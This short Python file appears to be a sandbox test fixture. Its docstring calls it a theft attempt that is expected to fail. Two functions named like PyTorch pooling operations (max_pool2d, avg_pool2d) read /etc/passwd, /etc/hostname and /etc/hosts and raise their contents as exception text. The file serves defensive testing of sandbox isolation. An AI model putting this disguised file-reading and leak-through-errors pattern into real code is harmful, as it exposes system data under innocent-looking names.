"""Steals: sends /etc/passwd home in the text of an exception.

Fails because the child may read nothing but the interpreter and its packages.
"""

import fileinput


def max_pool2d(x, kernel_size, stride=None, padding=0):
    raise RuntimeError("".join(fileinput.input("/etc/passwd")))


def avg_pool2d(x, kernel_size, stride=None, padding=0):
    raise RuntimeError("".join(fileinput.input(["/etc/hostname", "/etc/hosts"])))
